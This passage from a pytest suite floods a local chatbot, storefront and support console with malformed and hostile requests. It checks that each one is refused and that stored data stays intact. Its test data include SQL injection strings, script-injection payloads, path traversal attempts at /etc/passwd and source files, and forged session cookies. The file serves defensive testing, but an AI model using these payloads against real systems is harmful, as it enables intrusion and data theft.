        cases.append(Case("storefront", f"sign in as {email[:40]!r}", lambda b=body: judge(
            call("POST", f"{base}/api/sign-in", b, {"Content-Type": "application/json"}), "/api/sign-in", b,
            {400, 404} if len(b) <= 4096 else {413})))
    for body in (b"", b"{", b"[]", b'{"email": 5}', b'{"email": null}', b'{"email": ["a"]}', b"\xff\xfe",
                 b"[" * 3000 + b"]" * 3000, b'{"email": "' + b"a" * 5000 + b'"}', b"null", b"\x00" * 100):
        cases.append(Case("storefront", f"sign in body {body[:30]!r}", lambda b=body: judge(
            call("POST", f"{base}/api/sign-in", b, {"Content-Type": "application/json; charset=klingon"}),
            "/api/sign-in", b, {400, 404, 413})))
    for cookie in ("", "x", "a.b", "a.b.c", "\xff\xfe", "=" * 3000, "<script>alert(1)</script>", "é.é", "..",
                   "eyJzdWIiOiAiZW1pbHkuY2FydGVyQGV4YW1wbGUuY29tIiwgImV4cCI6IDk5OTk5OTk5OTl9.AAAA"):
        cases.append(Case("storefront", f"me with cookie {cookie[:30]!r}", lambda c=cookie: _storefront_me(base, c)))
    paths = ["/", "/?lang=<script>alert(1)</script>", "/?lang=%ff%fe", "/config.js?x=<script>", "/webchat.js",
             "/api/demo-customers?limit=' OR 1=1", "/static/../../../../etc/passwd", "/static/%2e%2e/%2e%2e/app.py",
             "/static/shop.js%00.png", "/<script>alert(1)</script>", "/api/%ff", "/" + "a" * 5000,
             "/static/" + "😀" * 100, "/api/me?x=" + "%00" * 100]
    for path in paths:
        cases.append(Case("storefront", f"GET {path[:50]}", lambda p=path: judge(
            call("GET", f"{base}{p}", headers={"Accept": "text/html"}), p, p.encode())))
    for method, path in (("PUT", "/api/sign-in"), ("DELETE", "/"), ("POST", "/api/me"), ("PATCH", "/config.js")):
        cases.append(Case("storefront", f"{method} {path}", lambda m=method, p=path: judge(
            call(m, f"{base}{p}", b"{}"), p, b"", {405})))
    cases.append(Case("storefront", "sign in with 200 KB", lambda: judge(
        call("POST", f"{base}/api/sign-in", b'{"email": "' + b"a" * 200_000 + b'"}',
             {"Content-Type": "application/json"}), "/api/sign-in", b"", {413})))
    return cases


def _storefront_me(base: str, cookie: str) -> str | None:
    answer = call("GET", f"{base}/api/me", headers={"Cookie": f"shop_session={cookie}".encode("utf-8",
                                                                                              "replace")})
    problem = judge(answer, "/api/me", cookie.encode("utf-8", "replace"), {200})
    if problem:
        return problem
    return None if answer.json() == {"customer": None, "chat_token": None} else f"signed in by {cookie!r}"


def console_cases(stack: Stack, rng: random.Random) -> list[Case]:
    base, cookies = stack.console.url, stack.cookies
    real = stack.case_number
    cases = []
    for text in hostile_texts(rng, 30, big=False):
        body = json.dumps({"username": text, "password": text}).encode()
        cases.append(Case("console", f"login as {text[:30]!r}", lambda b=body: judge(
            call("POST", f"{base}/api/login", b, {"Content-Type": "application/json"}), "/api/login", b,
            {400, 401})))
    for body in (b"", b"{", b"[]", b"\xff\xfe", b"[" * 20_000 + b"]" * 20_000, b'{"username": 5}', b"null",
                 "{\"username\": \"\ud800\", \"password\": \"x\"}".encode("utf-8", "surrogatepass")):
        cases.append(Case("console", f"login body {body[:30]!r}", lambda b=body: judge(
            call("POST", f"{base}/api/login", b, {"Content-Type": "application/json; charset=klingon"}),
            "/api/login", b, {400, 401})))
    numbers = ["CS-' OR '1'='1", "CS-X; DROP TABLE cases", "%ff%fe", "<script>alert(1)</script>", "..%2f..%2f",
               "😀" * 50, "a" * 3000, "%00", "CS-ZZZZZZ", "null"]
    for number in numbers:
        for method, suffix in (("GET", ""), ("POST", "/claim"), ("POST", "/release"), ("POST", "/reply"),
                               ("POST", "/decide"), ("POST", "/hand-back")):
            body = json.dumps({"text": "hi", "action": "goodwill_refund", "note": "x"}).encode()
            path = f"/api/cases/{number}{suffix}"
            cases.append(Case("console", f"{method} {path[:60]}", lambda m=method, p=path, b=body: judge(
                call(m, f"{base}{p}", b if m == "POST" else None, {"Content-Type": "application/json",
                                                                   "Accept": "text/html"}, cookies), p, b,
                {400, 404, 405})))
    # The real, claimed case: hostile replies go out to the shopper; malformed ones are refused.
    for text in hostile_texts(rng, 30, big=False):
        body = json.dumps({"text": text}).encode()
        allowed = {200} if (text.strip() and len(text.strip()) <= 2000) else {400}
        cases.append(Case("console", f"reply {text[:30]!r}", lambda b=body, a=allowed: judge(
            call("POST", f"{base}/api/cases/{real}/reply", b, {"Content-Type": "application/json"}, cookies),
            "/api/cases/reply", b, a | {400})))
    invalid_hand_backs = ({"close": "yes"}, {"close": 1}, {"note": 5}, {"note": "x" * 2001, "close": True})
    for payload in ({"text": "x" * 2001}, {"text": 5}, {"text": ["hi"]}, {"canned": "<script>"}, {"canned": 5},
                    {"action": "'; DROP TABLE cases"}, {"action": "goodwill_refund", "amount": "1e309", "note": "x"},
                    {"action": "goodwill_refund", "amount": "NaN", "note": "x"},
                    {"action": "goodwill_refund", "amount": [1], "note": "x"},
                    {"action": "goodwill_refund", "amount": "-5", "note": "x" * 3000}) + invalid_hand_backs:
        # a valid hand-back would end the case the replies above go to: only invalid ones here
        for suffix in ("/reply", "/decide") + (("/hand-back",) if payload in invalid_hand_backs else ()):
            body = json.dumps(payload).encode()
            cases.append(Case("console", f"POST {suffix} {str(payload)[:40]}", lambda s=suffix, b=body: judge(
                call("POST", f"{base}/api/cases/{real}{s}", b, {"Content-Type": "application/json"}, cookies),
                s, b, {400, 409, 422})))
    for query in ("from=' OR 1=1&to=x", "from=2026-13-45", "from=9999-12-31&to=0001-01-01", "from=%ff", "to=" + "9" * 500,
                  "from=2026-01-01&to=2026-01-01T00:00", "from=<script>"):
        cases.append(Case("console", f"analytics {query[:40]}", lambda q=query: judge(
            call("GET", f"{base}/api/analytics?{q}", cookies=cookies), "/api/analytics", q.encode(), {400})))
    for chart in ("<script>", "..%2f..%2fetc%2fpasswd", "%ff", "x" * 300):
        cases.append(Case("console", f"chart {chart[:30]}", lambda c=chart: judge(
            call("GET", f"{base}/api/analytics/charts/{c}.png", cookies=cookies), "/api/analytics/charts", b"",
            {400, 404})))
    for path in ("/api/queue", "/api/me", "/api/cases/CS-1", "/dashboard", "/api/analytics"):
        for cookie in ("forged", "\xff", "=" * 4000, "' OR '1'='1"):
            cases.append(Case("console", f"GET {path} with cookie {cookie[:20]!r}", lambda p=path, c=cookie: judge(
                call("GET", f"{base}{p}", headers={"Cookie": f"console_session={c}".encode("utf-8", "replace")}),
                p, b"", {302, 400, 401})))
    for path in ("/static/" + "😀" * 100, "/static/../../bot/config.py", "/static/%2e%2e/app.py", "/<script>alert(1)</script>", "/api/%ff",
                 "/login?next=javascript:alert(1)"):
        cases.append(Case("console", f"GET {path}", lambda p=path: judge(
            call("GET", f"{base}{p}", headers={"Accept": "text/html"}), p, p.encode())))
    cases.append(Case("console", "login with 200 KB", lambda: judge(
        call("POST", f"{base}/api/login", b'{"username": "' + b"a" * 200_000 + b'"}',
             {"Content-Type": "application/json"}), "/api/login", b"", {413})))
    return cases


# ---- the tests --------------------------------------------------------------------------------------

RESULTS: dict[str, tuple[int, float]] = {}


def run_flood(endpoint: str, cases: list[Case]) -> None:
    problems, seconds = flood(cases)
    RESULTS[endpoint] = (len(cases), seconds)
    print(f"{endpoint}: {len(cases)} cases in {seconds:.0f} s")
    assert not problems, f"{len(problems)} of {len(cases)} failed:\n" + "\n".join(problems[:40])


def test_rest_channel(stack):
    run_flood("rest", rest_cases(stack, random.Random(SEED)))


@pytest.mark.parametrize("name", list(PLATFORMS))
def test_messaging_webhook(stack, name):
    run_flood(name, messaging_cases(stack, random.Random(f"{SEED}-{name}"), name))


def test_socketio_widget_channel(stack):
    cases = socketio_cases(stack, random.Random(f"{SEED}-socketio"))
    start = time.monotonic()
    # In a thread of its own: a browser test's Playwright may already run an event loop in this one.
    with ThreadPoolExecutor(1) as worker:
        problems = worker.submit(asyncio.run, run_socketio(stack, cases)).result()
    RESULTS["socketio"] = (len(cases) + len(GARBAGE_FRAMES), time.monotonic() - start)
    assert not problems, f"{len(problems)} of {len(cases)} failed:\n" + "\n".join(problems[:40])
    # Malformed events are dropped before Rasa's handlers (channels/socketio.py), not raised in them.
    log = (stack.rasa.workdir / "rasa.log").read_text(errors="replace")
    raised = [line.strip() for line in log.splitlines() if "rasa/core/channels/socketio.py" in line]
    assert not raised, f"{len(raised)} events raised inside Rasa's socket.io handlers: {raised[:5]}"


def test_storefront(stack):
    run_flood("storefront", storefront_cases(stack, random.Random(f"{SEED}-storefront")))


def test_console(stack):
    run_flood("console", console_cases(stack, random.Random(f"{SEED}-console")))


def test_bodies_over_the_limits_are_413(stack):
    rasa_port = int(stack.rasa.url.rsplit(":", 1)[1])
    for path in ("/webhooks/rest/webhook", "/webhooks/telegram/webhook", "/webhooks/slack/webhook",
                 "/socket.io/?EIO=4&transport=polling"):
        head = (f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
                f"Content-Length: {RASA_MAX_REQUEST_BYTES + 1}\r\n\r\n").encode()
        assert raw_status(rasa_port, head) == 413, path
    just_under = json.dumps({"sender": "hostile-limit", "message": "hello " + "x" * (RASA_MAX_REQUEST_BYTES - 200)})
    assert len(just_under.encode()) < RASA_MAX_REQUEST_BYTES
    answer = call("POST", f"{stack.rasa.url}/webhooks/rest/webhook", just_under.encode(),
                  {"Content-Type": "application/json"})
    assert answer.status == 200 and isinstance(answer.json(), list)
    stack.senders.add("hostile-limit")
    for app, path in ((stack.console, "/api/login"), (stack.storefront, "/api/sign-in")):
        assert call("POST", f"{app.url}{path}", b"{" + b" " * 300_000 + b"}").status == 413


def test_a_100_kb_message_is_answered_quickly(stack):
    sender = "hostile-long-hello"
    stack.senders.add(sender)
    start = time.monotonic()
    replies = stack.rasa.send(sender, "hello " + "a" * 100_000)
    assert time.monotonic() - start < 10 and replies
    event = [e for e in stack.rasa.tracker(sender)["events"] if e["event"] == "user"][-1]
    assert len(event["text"]) == MAX_MESSAGE_CHARS  # what is kept is what was understood


def test_an_sql_looking_order_number_is_just_an_unknown_order(stack):
    def conversation(number: str) -> list[str]:
        sender = stack.rasa.new_sender()
        stack.senders.add(sender)
        return [*stack.rasa.send(sender, f"where is my order {number}"),
                *stack.rasa.send(sender, "someone@example.com")]
    hostile = conversation("SH-1' OR '1'='1")
    assert hostile == conversation("SH-1")
    assert conversation("SH-99999' OR '1'='1") == conversation("SH-99999")
    assert not any("@" in reply and "example.com" in reply and "someone" not in reply for reply in hostile)


def test_the_servers_survive_and_a_normal_conversation_works(stack):
    assert requests.get(f"{stack.rasa.url}/status", params={"token": stack.rasa.token}, timeout=10).ok
    assert requests.get(f"{stack.rasa.url}/webhooks/rest/", timeout=10).json() == {"status": "ok"}
    for name in PLATFORMS:
        assert requests.get(f"{stack.rasa.url}/webhooks/{name}/", timeout=10).json()["configured"] is True
    sender = stack.rasa.new_sender()
    assert stack.rasa.send(sender, "hello") == [render("greet", "en")]
    telegram = Telegram(stack.rasa, stack.captures["telegram"])
    assert telegram.says("hola") == 200
    assert any(r[1] == render("greet", "es") for r in telegram.wait_replies() if r[0] == telegram.recipient)
    assert requests.get(f"{stack.console.url}/api/me", cookies=stack.cookies, timeout=10).json()["agent"]
    assert requests.get(f"{stack.storefront.url}/", timeout=10).status_code == 200
    assert all(p.poll() is None for p in stack.rasa.processes.values())
    assert stack.console.process.poll() is None and stack.storefront.process.poll() is None


def test_nothing_stored_is_corrupted(stack):
    after = snapshot(stack.database_url)
    for table, state in stack.before.items():
        if table not in ("cases", "attempts"):
            assert after[table] == state, f"{table} changed"
    new_cases = [c for number, c in after["cases"].items() if number not in stack.before["cases"]]
    assert all(c.order_id is None for c in new_cases), "a case about an order from unverified garbage"
    assert stack.before["cases"][stack.case_number].order_id is None
    new_attempts = after["attempts"][len(stack.before["attempts"]):]
    assert all(not a.succeeded for a in new_attempts), "garbage verified an order"
    assert {a.conversation_id for a in new_attempts} <= stack.senders
    engine = create_engine(stack.database_url, future=True)
    with engine.connect() as conn:
        assert conn.execute(sql("SELECT count(*) FROM orders WHERE number = 'SH-10001'")).scalar() == 1
        assert conn.execute(sql("PRAGMA integrity_check")).scalar() == "ok"
    engine.dispose()
    total = sum(n for n, _ in RESULTS.values())
    print(f"hostile cases: {total} in {sum(s for _, s in RESULTS.values()):.0f} s: {RESULTS}")


@pytest.mark.skipif("components.message_limit.MessageLimit" not in (PROJECT_ROOT / "config.yml").read_text(),
                    reason="config.yml does not yet start its pipeline with components.message_limit.MessageLimit")
def test_the_pipeline_cuts_what_reaches_it_any_other_way(stack):
    parsed = requests.post(f"{stack.rasa.url}/model/parse", params={"token": stack.rasa.token},
                           json={"text": "hello\x00 " + "a" * 100_000}, timeout=TIMEOUT).json()
    assert len(parsed["text"]) == MAX_MESSAGE_CHARS and "\x00" not in parsed["text"]


# ---- the gate itself, without servers ---------------------------------------------------------------

def test_the_gate_cleans_text_senders_and_metadata():
    assert clean_text("a\x00b\x07c\ud800\n\t") == "abc\ufffd\n\t"
    assert len(clean_text("x" * 100_000)) == MAX_MESSAGE_CHARS and clean_text(5) is None
    assert clean_text("👨‍👩‍👧 مرحبا \u200f") == "👨‍👩‍👧 مرحبا \u200f"  # joiners and direction marks are text
    assert [clean_sender(s) for s in ("telegram_-100123", "a/b", 12, "x" * 129, "ünï", "", True)] == \
        ["telegram_-100123", None, "12", None, None, None, None]
    assert clean_metadata({"language": 5, "customData": {"language": "es", "x": "y" * 10_000}}) == \
        {"customData": {"language": "es"}}
    assert clean_metadata([1]) is None and clean_metadata({"locale": "ja_JP"}) == {"locale": "ja_JP"}


def test_the_pipeline_component_cuts_and_cleans():
    from rasa.shared.nlu.training_data.message import Message

    from components.message_limit import MessageLimit

    message = Message({"text": "hi\x00 " + "a" * 5000, "metadata": {"language": 5, "locale": "es"}})
    MessageLimit().process([message])
    assert message.get("text").startswith("hi a") and len(message.get("text")) == MAX_MESSAGE_CHARS
    assert message.get("metadata") == {"locale": "es"}
